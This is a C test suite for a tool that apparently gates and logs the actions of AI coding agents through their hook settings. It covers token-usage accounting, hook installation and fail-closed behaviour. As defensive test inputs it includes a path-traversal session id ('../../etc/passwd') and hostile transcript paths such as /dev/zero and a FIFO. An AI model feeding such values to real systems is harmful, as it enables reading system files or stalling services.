      ran r = hook_event("claude-code", "{\"session_id\":\"par\",\"cwd\":\"/w\","
                         "\"hook_event_name\":\"UserPromptSubmit\",\"prompt\":\"x\"}");
      if (r.code != 0 || r.err[0]) fprintf(stderr, "hook %d: exit %d: %s\n", i, r.code, r.err);
      _exit(r.code == 0 && !r.err[0] ? 0 : 1);
    }
  }
  for (int i = 0; i < N; i++) {
    int st = 0;
    waitpid(kids[i], &st, 0);
    ASSERT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0);
  }
  cJSON *s = stored_session("par");
  ASSERT_NUM_EQ(num_at(s, "turn"), N);
  ASSERT_INT_EQ(cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(s, "messages")), N);
  cJSON_Delete(s);
}

static void append_to(const char *path, const char *text) {
  FILE *f = fopen(path, "ab");
  ASSERT_NOT_NULL(f);
  fputs(text, f);
  fclose(f);
}

static ran stop_at(const char *agent, const char *sock, const char *session,
                   const char *transcript) {
  char ev[1024];
  snprintf(ev, sizeof ev, "{\"session_id\":\"%s\",\"cwd\":\"/w\",\"hook_event_name\":"
           "\"Stop\",\"stop_hook_active\":false,\"transcript_path\":\"%s\","
           "\"model\":\"gpt-from-event\"}", session, transcript);
  return sock ? hook_event_at(agent, sock, ev) : hook_event(agent, ev);
}

static ran stop(const char *agent, const char *session, const char *transcript) {
  return stop_at(agent, NULL, session, transcript);
}

/* The usage ledger's sum for session and model (NULL: all): records, the
 * input tokens (fresh, cache written and read) and output tokens. */
static void check_usage(const char *session, const char *model, double records,
                        double in, double out) {
  char err[TG_ERRMSG];
  tg_store *st = hook_db();
  tg_usage_filter f = {session, model, NULL, 0, 0};
  tg_usage_total t;
  ASSERT_OK(tg_store_usage(st, &f, &t, err));
  tg_store_close(st);
  if (t.records != (int64_t)records || t.input_tokens != (int64_t)in ||
      t.output_tokens != (int64_t)out)
    TG_FAIL("usage of %s/%s: %lld records, %lld in, %lld out; expected %.0f, "
            "%.0f, %.0f", session, model ? model : "*", (long long)t.records,
            (long long)t.input_tokens, (long long)t.output_tokens, records, in,
            out);
}

#define CC_MSG(id, model, in, out)                                            \
  "{\"type\":\"assistant\",\"timestamp\":\"2026-01-01T00:00:00Z\",\"message\":" \
  "{\"id\":\"" id "\",\"model\":\"" model "\",\"role\":\"assistant\","        \
  "\"usage\":{\"input_tokens\":" #in ",\"output_tokens\":" #out "}}}\n"

/* Claude Code: each assistant message once (its lines repeat its usage),
 * only what came since the last Stop, whole lines only, hostile lines
 * skipped; a transcript cut short is read again from its start. Stops
 * answered in-process and by a resident instance read on from each
 * other's mark (the database's). */
TEST(stop_records_the_usage_in_a_claude_code_transcript) {
  char *tmp = temp_dir();
  char *t = path_join(tmp, "transcript.jsonl");
  append_to(t,
      "{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":\"hi\"}}\n"
      "{\"type\":\"assistant\",\"message\":{\"id\":\"msg_1\",\"model\":\"claude-sonnet-4-5\","
      "\"usage\":{\"input_tokens\":10,\"output_tokens\":5,"
      "\"cache_creation_input_tokens\":100,\"cache_read_input_tokens\":1000}}}\n"
      "{\"type\":\"assistant\",\"message\":{\"id\":\"msg_1\",\"model\":\"claude-sonnet-4-5\","
      "\"usage\":{\"input_tokens\":10,\"output_tokens\":20,"
      "\"cache_creation_input_tokens\":100,\"cache_read_input_tokens\":1000}}}\n"
      "not json at all\n"
      "{\"type\":\"assistant\",\"message\":{\"id\":\"msg_2\",\"model\":\"x\","
      "\"usage\":{\"input_tokens\":1e400}}}\n"
      "{\"type\":\"assistant\",\"message\":{\"id\":\"msg_3\",\"model\":\"x\","
      "\"usage\":{\"input_tokens\":-5,\"output_tokens\":1}}}\n"
      "{\"type\":\"assistant\",\"message\":{\"id\":\"msg_3b\",\"model\":\"x\","
      "\"usage\":{\"input_tokens\":\"7\",\"output_tokens\":1}}}\n"
      "{\"type\":\"assistant\",\"message\":{\"id\":\"msg_4\",\"model\":\"<synthetic>\","
      "\"usage\":{\"input_tokens\":0,\"output_tokens\":0}}}\n"
      CC_MSG("msg_5", "claude-haiku-4-5", 7, 3)
      "{\"type\":\"assistant\",\"message\":{\"id\":\"msg_6\",\"model\":\"claude-haiku-4-5\",\"usa");
  ran r = stop("claude-code", "sess-u", t);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_STR_EQ(r.out, "");
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  check_usage("sess-u", NULL, 2, 1117, 23);
  check_usage("sess-u", "claude-sonnet-4-5", 1, 1110, 20);
  check_usage("sess-u", "claude-haiku-4-5", 1, 7, 3);
  /* budgets see it: the policies' token budget for the session is spent */
  r = hook_event("claude-code", "{\"session_id\":\"sess-u\",\"cwd\":\"/w\","
                 "\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"Bash\","
                 "\"tool_input\":{\"command\":\"ls\"}}");
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ASSERT_CONTAINS(r.out, "this session used 1140 tokens of 1000");
  ran_free(&r);
  /* the rest of the partial line, and one more message: a resident
   * instance reads on from where the in-process answer stopped */
  append_to(t, "ge\":{\"input_tokens\":1,\"output_tokens\":2}}}\n"
               CC_MSG("msg_7", "claude-sonnet-4-5", 4, 4));
  daemon_proc d = start_daemon(tmp, POLICIES);
  r = stop_at("claude-code", d.sock, "sess-u", t);
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  check_usage("sess-u", "claude-haiku-4-5", 2, 8, 5);
  check_usage("sess-u", "claude-sonnet-4-5", 2, 1114, 24);
  /* a Stop with nothing new records nothing, either way */
  r = stop_at("claude-code", d.sock, "sess-u", t);
  ran_free(&r);
  stop_daemon(&d);
  r = stop("claude-code", "sess-u", t);
  ran_free(&r);
  check_usage("sess-u", NULL, 4, 1122, 29);
  /* cut short (a new transcript in its place): read from its start */
  FILE *f = fopen(t, "wb");
  fputs(CC_MSG("msg_8", "claude-opus-4-1", 9, 9), f);
  fclose(f);
  r = stop("claude-code", "sess-u", t);
  ran_free(&r);
  check_usage("sess-u", "claude-opus-4-1", 1, 9, 9);
  check_usage("sess-u", NULL, 5, 1131, 38);
  free(t);
  remove_tree(tmp);
}

TEST(stop_records_the_usage_in_a_codex_rollout) {
  char *tmp = temp_dir();
  char *t = path_join(tmp, "rollout.jsonl");
  append_to(t,
      "{\"type\":\"session_meta\",\"payload\":{\"id\":\"s\"}}\n"
      "{\"type\":\"event_msg\",\"payload\":{\"type\":\"token_count\",\"info\":{"
      "\"total_token_usage\":{\"total_tokens\":150},\"last_token_usage\":"
      "{\"input_tokens\":100,\"cached_input_tokens\":40,\"output_tokens\":50}}}}\n"
      "{\"type\":\"event_msg\",\"payload\":{\"type\":\"token_count\",\"info\":{"
      "\"total_token_usage\":{\"total_tokens\":150},\"last_token_usage\":"
      "{\"input_tokens\":100,\"cached_input_tokens\":40,\"output_tokens\":50}}}}\n"
      "{\"type\":\"event_msg\",\"payload\":{\"type\":\"token_count\",\"info\":null}}\n"
      "{\"type\":\"turn_context\",\"payload\":{\"model\":\"gpt-5-codex\"}}\n"
      "{\"type\":\"event_msg\",\"payload\":{\"type\":\"token_count\",\"info\":{"
      "\"total_token_usage\":{\"total_tokens\":400},\"last_token_usage\":"
      "{\"input_tokens\":200,\"cached_input_tokens\":0,\"output_tokens\":50}}}}\n");
  ran r = stop("codex", "sess-c", t);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  /* before turn_context: the event's model; cached input is input */
  check_usage("sess-c", "gpt-from-event", 1, 100, 50);
  check_usage("sess-c", "gpt-5-codex", 1, 200, 50);
  free(t);
  remove_tree(tmp);
}

TEST(a_hostile_transcript_path_is_not_read) {
  char *tmp = temp_dir();
  char *fifo = path_join(tmp, "fifo");
  ASSERT_OK(mkfifo(fifo, 0600));
  const char *paths[] = {"/dev/zero", fifo, "/nonexistent/t.jsonl", tmp};
  for (int i = 0; i < 4; i++) {
    ran r = stop("claude-code", "sess-h", paths[i]);
    ASSERT_INT_EQ(r.code, 0); /* a Stop never blocks on toolgate's account */
    ASSERT_STR_EQ(r.out, "");
    ASSERT_CONTAINS(r.err, "Stop not recorded");
    ASSERT_TRUE(r.ms < 9000); /* not read until the 10 s deadline */
    ran_free(&r);
  }
  check_usage("sess-h", NULL, 0, 0, 0);
  free(fifo);
  remove_tree(tmp);
}

TEST(sessions_are_recorded) {
  /* the project: the session's cwd by its real path (here through a
   * symlink) */
  char *tmp = temp_dir(), *link = path_join(tmp, "link"), ev[1024];
  char *real = realpath(tmp, NULL);
  ASSERT_OK(symlink(tmp, link));
  snprintf(ev, sizeof ev, "{\"session_id\":\"../../etc/passwd\",\"cwd\":\"%s\","
           "\"hook_event_name\":\"SessionStart\",\"source\":\"resume\"}", link);
  ran r = hook_event("claude-code", ev);
  ASSERT_STR_EQ(r.out, "");
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  cJSON *s = stored_session("../../etc/passwd"); /* kept, not a path */
  ASSERT_STR_EQ(str_at(s, "project"), real);
  free(real);
  free(link);
  remove_tree(tmp);
  ASSERT_STR_EQ(str_at(s, "agent"), "claude-code");
  ASSERT_TRUE(num_at(s, "started") > 0);
  ASSERT_TRUE(cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(s, "ended")));
  cJSON_Delete(s);
  r = hook_event("claude-code", "{\"session_id\":\"../../etc/passwd\",\"cwd\":"
                 "\"/w\",\"hook_event_name\":\"SessionEnd\",\"reason\":\"logout\"}");
  ASSERT_STR_EQ(r.err, "");
  ran_free(&r);
  s = stored_session("../../etc/passwd");
  ASSERT_TRUE(num_at(s, "ended") > 0);
  cJSON_Delete(s);
  char err[TG_ERRMSG];
  tg_store *st = hook_db(); /* the export says whose session it was */
  char *md = tg_store_export(st, "../../etc/passwd", TG_EXPORT_MARKDOWN, err);
  ASSERT_NOT_NULL(md);
  ASSERT_CONTAINS(md, "- Agent: claude-code (0 prompts)");
  free(md);
  tg_store_close(st);
  /* a session id the database refuses: told on stderr, the agent goes on */
  r = hook_event("codex", "{\"session_id\":\"a\\u0001b\",\"hook_event_name\":"
                 "\"SessionStart\"}");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_STR_EQ(r.out, "");
  ASSERT_CONTAINS(r.err, "SessionStart not recorded: a session's id has a "
                  "control character");
  ran_free(&r);
}

/* ---- install ----------------------------------------------------------------- */

/* prog hook install|uninstall ARGS run in dir (its project), with a
 * PATH that does not lead to toolgate. */
static ran install_with(const char *prog, const char *dir,
                        const char *const *args) {
  pid_t pid;
  char outp[] = "/tmp/tg-inst-XXXXXX";
  int out = mkstemp(outp);
  ASSERT_TRUE(out >= 0);
  unlink(outp);
  const char *argv[32] = {prog, "hook"};
  int n = 2;
  for (; args[n - 2]; n++) argv[n] = args[n - 2];
  argv[n] = NULL;
  pid = fork();
  if (pid == 0) {
    dup2(out, 1);
    dup2(out, 2);
    if (chdir(dir) < 0) _exit(99);
    setenv("PATH", "/usr/bin:/bin", 1);
    execv(prog, (char *const *)argv);
    _exit(98);
  }
  int st = 0;
  waitpid(pid, &st, 0);
  ran r = {WIFEXITED(st) ? WEXITSTATUS(st) : -1, slurp_fd(out), strdup(""), 0};
  close(out);
  return r;
}

static ran install_in(const char *dir, const char *const *args) {
  return install_with(TOOLGATE, dir, args);
}

/* `prog hook install agent` in dir. */
static ran install_agent_with(const char *prog, const char *dir,
                              const char *agent) {
  const char *args[] = {"install", agent, NULL};
  return install_with(prog, dir, args);
}

/* A copy of the toolgate binary in dir (dir/tg-copy, malloc'd): a test
 * installs with it, then removes it to see the installed line fail
 * closed. */
static char *toolgate_copy_in(const char *dir) {
  char *copy = path_join(dir, "tg-copy");
  char cmd[PATH_MAX * 3];
  snprintf(cmd, sizeof cmd, "cp '%s' '%s'", TOOLGATE, copy);
  ASSERT_INT_EQ(system(cmd), 0);
  return copy;
}

/* The command line installed for event (the last entry), malloc'd. */
static char *installed_line(const char *dir, const char *file,
                            const char *event) {
  char *t = file_text(dir, file);
  cJSON *j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  ASSERT_NOT_NULL(j);
  const cJSON *l = cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(j, "hooks"), event);
  const cJSON *g = cJSON_GetArrayItem(l, cJSON_GetArraySize(l) - 1);
  char *line = strdup(str_at(cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(g, "hooks"), 0),
                             "command"));
  cJSON_Delete(j);
  free(t);
  return line;
}

/* line run by sh as the agent runs it: in dir, the event on stdin. */
static ran run_line(const char *dir, const char *line, const char *event) {
  char inp[] = "/tmp/tg-line-in-XXXXXX", outp[] = "/tmp/tg-line-out-XXXXXX",
       errp[] = "/tmp/tg-line-err-XXXXXX";
  int in = mkstemp(inp), out = mkstemp(outp), err = mkstemp(errp);
  ASSERT_TRUE(in >= 0 && out >= 0 && err >= 0);
  unlink(inp);
  unlink(outp);
  unlink(errp);
  ASSERT_INT_EQ(write(in, event, strlen(event)), (ssize_t)strlen(event));
  lseek(in, 0, SEEK_SET);
  pid_t pid = fork();
  if (pid == 0) {
    dup2(in, 0);
    dup2(out, 1);
    dup2(err, 2);
    if (chdir(dir) < 0) _exit(99);
    setenv("PATH", "/usr/bin:/bin", 1);
    setenv("CLAUDE_PROJECT_DIR", dir, 1);
    execl("/bin/sh", "sh", "-c", line, (char *)NULL);
    _exit(98);
  }
  int st = 0;
  waitpid(pid, &st, 0);
  ran r = {WIFEXITED(st) ? WEXITSTATUS(st) : -1, slurp_fd(out), slurp_fd(err), 0};
  close(in);
  close(out);
  close(err);
  return r;
}

static int count_of(const char *hay, const char *needle) {
  int n = 0;
  for (const char *p = hay; (p = strstr(p, needle)); p += strlen(needle)) n++;
  return n;
}

static int backups(const char *dir) {
  DIR *d = opendir(dir);
  int n = 0;
  for (struct dirent *e; d && (e = readdir(d));)
    n += strstr(e->d_name, ".bak-") != NULL;
  if (d) closedir(d);
  return n;
}

TEST(install_into_an_empty_settings_file) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  make_subdir(tmp, ".claude");
  put_file(tmp, ".claude/settings.json", "");
  const char *args[] = {"install", "claude-code", NULL};
  ran r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "installed the claude-code hooks in .claude/settings.json");
  ran_free(&r);
  char *t = file_text(tmp, ".claude/settings.json");
  cJSON *j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  ASSERT_NOT_NULL(j);
  const cJSON *h = cJSON_GetObjectItemCaseSensitive(j, "hooks");
  static const char *const events[] = {"PreToolUse", "PermissionRequest",
      "PostToolUse", "UserPromptSubmit", "Stop", "SessionStart", "SessionEnd"};
  for (int i = 0; i < 7; i++) {
    const cJSON *l = cJSON_GetObjectItemCaseSensitive(h, events[i]);
    ASSERT_INT_EQ(cJSON_GetArraySize(l), 1);
    const cJSON *hk = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(l, 0), "hooks"), 0);
    ASSERT_STR_EQ(str_at(hk, "type"), "command");
    ASSERT_CONTAINS(str_at(hk, "command"), " hook claude-code --policies "
                    "\"$CLAUDE_PROJECT_DIR\"/policies");
    ASSERT_NUM_EQ(num_at(hk, "timeout"), 30);
  }
  ASSERT_STR_EQ(str_at(cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(h, "PreToolUse"), 0),
                       "matcher"), "*");
  cJSON_Delete(j);
  free(t);
  remove_tree(tmp);
}

static const char other_hooks[] =
    "{\n  \"model\": \"opus\",\n  \"hooks\": {\n"
    "    \"PreToolUse\": [{\"matcher\": \"Bash\", \"hooks\": [{\"type\": "
    "\"command\", \"command\": \"~/bin/audit.sh\"}]}],\n"
    "    \"Notification\": [{\"hooks\": [{\"type\": \"command\", \"command\": "
    "\"notify-send hi\"}]}]\n  },\n  \"permissions\": {\"allow\": [\"Bash(ls:*)\"]}\n}\n";

TEST(install_keeps_other_hooks_and_settings) {
  char *tmp = temp_dir();
  make_subdir(tmp, "pol");
  make_subdir(tmp, ".claude");
  put_file(tmp, ".claude/settings.local.json", other_hooks);
  const char *args[] = {"install", "claude-code", "--local", "--policies", "pol",
                        "--on-error", "ask", NULL};
  for (int i = 0; i < 2; i++) { /* twice: still one entry of ours */
    ran r = install_in(tmp, args);
    ASSERT_INT_EQ(r.code, 0);
    ran_free(&r);
  }
  char *t = file_text(tmp, ".claude/settings.local.json");
  ASSERT_INT_EQ(count_of(t, "hook claude-code"), 7);
  ASSERT_INT_EQ(count_of(t, "--on-error ask"), 7);
  cJSON *j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  ASSERT_STR_EQ(str_at(j, "model"), "opus");
  ASSERT_NOT_NULL(cJSON_GetObjectItemCaseSensitive(j, "permissions"));
  const cJSON *pre = cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(j, "hooks"), "PreToolUse");
  ASSERT_INT_EQ(cJSON_GetArraySize(pre), 2);
  ASSERT_STR_EQ(str_at(cJSON_GetArrayItem(pre, 0), "matcher"), "Bash"); /* first */
  ASSERT_CONTAINS(t, "notify-send hi");
  cJSON_Delete(j);
  free(t);
  char *claude = path_join(tmp, ".claude");
  ASSERT_INT_EQ(backups(claude), 2);
  /* uninstall: theirs stay, as they were */
  const char *un[] = {"uninstall", "claude-code", "--local", NULL};
  ran r = install_in(tmp, un);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "removed the claude-code hooks");
  ran_free(&r);
  t = file_text(tmp, ".claude/settings.local.json");
  cJSON *now = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  cJSON *was = tg_json_parse(other_hooks, strlen(other_hooks), NULL, NULL, 0);
  ASSERT_TRUE(cJSON_Compare(now, was, 1));
  cJSON_Delete(now);
  cJSON_Delete(was);
  free(t);
  r = install_in(tmp, un); /* nothing left to take out */
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "nothing to do");
  ran_free(&r);
  free(claude);
  remove_tree(tmp);
}

/* The agent reads "hooks", exactly: an install that merged into a key of
 * another case ("Hooks") would report success and guard nothing. */
TEST(install_writes_the_agents_own_key_not_one_of_another_case) {
  char *tmp = temp_dir();
  make_subdir(tmp, "pol");
  make_subdir(tmp, ".claude");
  put_file(tmp, ".claude/settings.json",
           "{\"Hooks\":{\"PreToolUse\":[]},\"model\":\"opus\"}");
  const char *args[] = {"install", "claude-code", "--policies", "pol", NULL};
  ran r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  char *t = file_text(tmp, ".claude/settings.json");
  cJSON *j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  const cJSON *pre = cJSON_GetObjectItemCaseSensitive(
      cJSON_GetObjectItemCaseSensitive(j, "hooks"), "PreToolUse");
  ASSERT_INT_EQ(cJSON_GetArraySize(pre), 1);
  const cJSON *theirs = cJSON_GetObjectItemCaseSensitive(
      cJSON_GetObjectItemCaseSensitive(j, "Hooks"), "PreToolUse");
  ASSERT_INT_EQ(cJSON_GetArraySize(theirs), 0); /* left as it was */
  cJSON_Delete(j);
  free(t);
  remove_tree(tmp);
}

TEST(install_refuses_a_malformed_file_and_leaves_it) {
  static const char *const bad[] = {
      "{\"hooks\": {\"PreToolUse\": []},}",            /* trailing comma */
      "{\"hooks\": 1, \"hooks\": {}}",                 /* a key twice */
      "[]",                                            /* not an object */
      "{\"hooks\": {\"PreToolUse\": {\"matcher\": \"*\"}}}", /* not a list */
      "{\"hooks\": [\"x\"]}",
      "{\"x\": 1e400}",
  };
  for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
    char *tmp = temp_dir();
    make_subdir(tmp, "policies");
    make_subdir(tmp, ".claude");
    put_file(tmp, ".claude/settings.json", bad[i]);
    const char *args[] = {"install", "claude-code", NULL};
    ran r = install_in(tmp, args);
    ASSERT_INT_EQ(r.code, 2);
    ASSERT_CONTAINS(r.out, "left as it is");
    ran_free(&r);
    char *t = file_text(tmp, ".claude/settings.json");
    ASSERT_STR_EQ(t, bad[i]);
    free(t);
    char *claude = path_join(tmp, ".claude");
    ASSERT_INT_EQ(backups(claude), 0);
    free(claude);
    remove_tree(tmp);
  }
}

TEST(install_codex_for_the_user_and_dry_run) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  char *home = path_join(tmp, "home");
  ASSERT_OK(mkdir(home, 0755));
  setenv("HOME", home, 1);
  const char *dry[] = {"install", "codex", "--user", "--dry-run", NULL};
  ran r = install_in(tmp, dry);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "would write");
  ASSERT_CONTAINS(r.out, "Bash|apply_patch|mcp__.*");
  ran_free(&r);
  ASSERT_FALSE(file_exists(home, ".codex/hooks.json"));
  const char *args[] = {"install", "codex", "--user", NULL};
  r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  char *t = file_text(home, ".codex/hooks.json");
  ASSERT_INT_EQ(count_of(t, " hook codex --policies "), 6);
  ASSERT_CONTAINS(t, tmp); /* an absolute policies path */
  ASSERT_NOT_CONTAINS(t, "CLAUDE_PROJECT_DIR");
  free(t);
  free(home);
  remove_tree(tmp);
}

/* Codex reads its user layer from CODEX_HOME when that is set (its
 * environment-variables page: "the root for Codex state, including
 * config"; its hooks page: hooks sit "next to active config layers"):
 * --user writes there, never into ~/.codex, which Codex would not read;
 * a relative CODEX_HOME is refused rather than guessed. */
TEST(install_codex_user_hooks_go_to_codex_home) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  char *home = path_join(tmp, "home"), *ch = path_join(tmp, "codex-home");
  ASSERT_OK(mkdir(home, 0755));
  ASSERT_OK(mkdir(ch, 0755));
  setenv("HOME", home, 1);
  setenv("CODEX_HOME", ch, 1);
  const char *args[] = {"install", "codex", "--user", NULL};
  ran r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  ASSERT_FALSE(file_exists(home, ".codex/hooks.json"));
  char *t = file_text(ch, "hooks.json");
  ASSERT_INT_EQ(count_of(t, " hook codex --policies "), 6);
  free(t);
  setenv("CODEX_HOME", "codex-home", 1);
  r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 2);
  ASSERT_CONTAINS(r.out, "CODEX_HOME is not an absolute path");
  ran_free(&r);
  ASSERT_FALSE(file_exists(home, ".codex/hooks.json"));
  setenv("CODEX_HOME", "", 1); /* empty: not set, as Codex takes it */
  r = install_in(tmp, args);
  unsetenv("CODEX_HOME");
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  ASSERT_TRUE(file_exists(home, ".codex/hooks.json"));
  /* Gemini CLI's user settings are under GEMINI_CLI_HOME the same way
   * (its docs/reference/configuration.md, GEMINI_CLI_HOME) */
  setenv("GEMINI_CLI_HOME", ch, 1);
  const char *gem[] = {"install", "gemini", "--user", "--dry-run", NULL};
  r = install_in(tmp, gem);
  unsetenv("GEMINI_CLI_HOME");
  ASSERT_INT_EQ(r.code, 0);
  char want[PATH_MAX + 64];
  snprintf(want, sizeof want, "would write %s/.gemini/settings.json", ch);
  ASSERT_CONTAINS(r.out, want);
  ran_free(&r);
  free(ch);
  free(home);
  remove_tree(tmp);
}

TEST(install_writes_through_a_symlink) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  make_subdir(tmp, ".claude");
  put_file(tmp, "dotfiles-settings.json", "{\"model\": \"x\"}");
  char *target = path_join(tmp, "dotfiles-settings.json");
  make_symlink(target, tmp, ".claude/settings.json");
  const char *args[] = {"install", "claude-code", NULL};
  ran r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  char *link = path_join(tmp, ".claude/settings.json");
  struct stat st;
  ASSERT_OK(lstat(link, &st));
  ASSERT_TRUE(S_ISLNK(st.st_mode));
  char *t = read_text(target);
  ASSERT_CONTAINS(t, "hook claude-code");
  ASSERT_CONTAINS(t, "\"model\": \"x\"");
  free(t);
  free(link);
  free(target);
  remove_tree(tmp);
}

/* The installed line answers ev while the copy of toolgate it names is
 * there (with --no-db; *answered, when asked for, is what it said), and
 * once the copy is gone it fails closed: returns what it then did (its
 * exit and stdout are the agent's blocking form), stderr saying why. */
static ran answers_then_blocks(const char *tmp, const char *line,
                               const char *ev, const char *copy,
                               ran *answered) {
  char with[PATH_MAX * 8];
  snprintf(with, sizeof with, "%s --no-db", line);
  ran r = run_line(tmp, with, ev);
  ASSERT_INT_EQ(r.code, 0);
  if (answered) *answered = r;
  else ran_free(&r);
  ASSERT_OK(unlink(copy));
  r = run_line(tmp, line, ev);
  ASSERT_CONTAINS(r.err, "the hook did not answer (exit 127");
  return r;
}

/* The installed line names this binary by its absolute path, and blocks
 * when that binary is gone: a hook that is not found must not let the
 * agent's calls through (exit 127 is a non-blocking error to the agents). */
static void install_a_copy_then_remove_it(const char *agent, const char *file,
                                          const char *event) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  char *copy = toolgate_copy_in(tmp);
  ran r = install_agent_with(copy, tmp, agent);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "checked: the hook answers");
  ran_free(&r);
  char *line = installed_line(tmp, file, "PreToolUse");
  ASSERT_CONTAINS(line, copy); /* the absolute path, not a bare name */
  ASSERT_CONTAINS(line, "/bin/sh -c ");
  char ev[PATH_MAX + 256];
  snprintf(ev, sizeof ev, "{\"session_id\":\"s\",\"cwd\":\"%s\","
           "\"hook_event_name\":\"%s\",\"tool_name\":\"Bash\","
           "\"tool_input\":{\"command\":\"ls\"}}", tmp, event);
  r = answers_then_blocks(tmp, line, ev, copy, NULL);
  ASSERT_INT_EQ(r.code, 2); /* blocks: stderr is the reason */
  ran_free(&r);
  /* a stop is reported, not blocked: a blocked stop never ends */
  free(line);
  line = installed_line(tmp, file, "Stop");
  r = run_line(tmp, line, "{}");
  ASSERT_INT_EQ(r.code, 1);
  ran_free(&r);
  free(line);
  free(copy);
  remove_tree(tmp);
}

/* The install runs its line once: policies that do not load are said,
 * and the install fails (the line is written, and blocks). */
TEST(install_says_when_the_line_does_not_answer) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  put_file(tmp, "policies/10_half.lua", "local tg = require \"toolgate\"\ntg.rule {\n");
  const char *args[] = {"install", "claude-code", NULL};
  ran r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 1);
  ASSERT_CONTAINS(r.out, "installed the claude-code hooks");
  ASSERT_CONTAINS(r.out, "does not answer as it should");
  ASSERT_CONTAINS(r.out, "10_half.lua:");
  ran_free(&r);
  remove_tree(tmp);
}

TEST(an_installed_hook_whose_binary_is_gone_blocks) {
  install_a_copy_then_remove_it("claude-code", ".claude/settings.json",
                                "PreToolUse");
  install_a_copy_then_remove_it("codex", ".codex/hooks.json", "PreToolUse");
}

/* The command of the last hook installed for event: in a grouped file
 * (Claude Code's shape) the group's first hook's `command`, in a flat one
 * (Copilot's) the entry's own key. malloc'd. */
static char *installed_command(const char *dir, const char *file,
                               const char *event, const char *key, int flat) {
  char *t = file_text(dir, file);
  cJSON *j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  ASSERT_NOT_NULL(j);
  const cJSON *l = cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(j, "hooks"), event);
  const cJSON *g = cJSON_GetArrayItem(l, cJSON_GetArraySize(l) - 1);
  const cJSON *h = flat ? g : cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(g, "hooks"), 0);
  ASSERT_NOT_NULL(str_at(h, key));
  char *line = strdup(str_at(h, key));
  cJSON_Delete(j);
  free(t);
  return line;
}

/* What blocks, in an agent's own form, when the installed binary is gone:
 * Gemini CLI takes exit 2 (stderr the reason); Copilot CLI a deny on
 * stdout (exit 0), as it reads other exits and a timeout as "go on". */
typedef struct {
  const char *agent, *file, *key;
  int flat;
  const char *pre, *pre_event;   /* the pre-tool event and a payload */
  int block_code;
  const char *block_out;         /* on stdout when blocked (NULL: none) */
  const char *stop;              /* an event that only reports (exit 1) */
} agent_install;

static void install_agent_then_remove_binary(const agent_install *a) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  char *copy = toolgate_copy_in(tmp);
  ran r = install_agent_with(copy, tmp, a->agent);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "checked: the hook answers");
  ran_free(&r);
  char *line = installed_command(tmp, a->file, a->pre, a->key, a->flat);
  ASSERT_CONTAINS(line, copy);
  ASSERT_CONTAINS(line, "/bin/sh -c ");
  char ev[PATH_MAX + 512];
  snprintf(ev, sizeof ev, a->pre_event, tmp);
  ran answered;
  r = answers_then_blocks(tmp, line, ev, copy, &answered);
  ASSERT_STR_EQ(answered.out, ""); /* no rule, no verdict */
  ran_free(&answered);
  ASSERT_INT_EQ(r.code, a->block_code);
  if (a->block_out) ASSERT_CONTAINS(r.out, a->block_out);
  else ASSERT_STR_EQ(r.out, "");
  ran_free(&r);
  free(line);
  line = installed_command(tmp, a->file, a->stop, a->key, a->flat);
  r = run_line(tmp, line, "{}");
  ASSERT_INT_EQ(r.code, 1);
  ASSERT_STR_EQ(r.out, "");
  ran_free(&r);
  free(line);
  free(copy);
  remove_tree(tmp);
}

TEST(installed_gemini_and_copilot_hooks_block_when_the_binary_is_gone) {
  const agent_install gemini = {
      "gemini", ".gemini/settings.json", "command", 0, "BeforeTool",
      "{\"session_id\":\"s\",\"cwd\":\"%s\",\"hook_event_name\":\"BeforeTool\","
      "\"tool_name\":\"run_shell_command\",\"tool_input\":{\"command\":\"ls\"}}",
      2, NULL, "AfterAgent"};
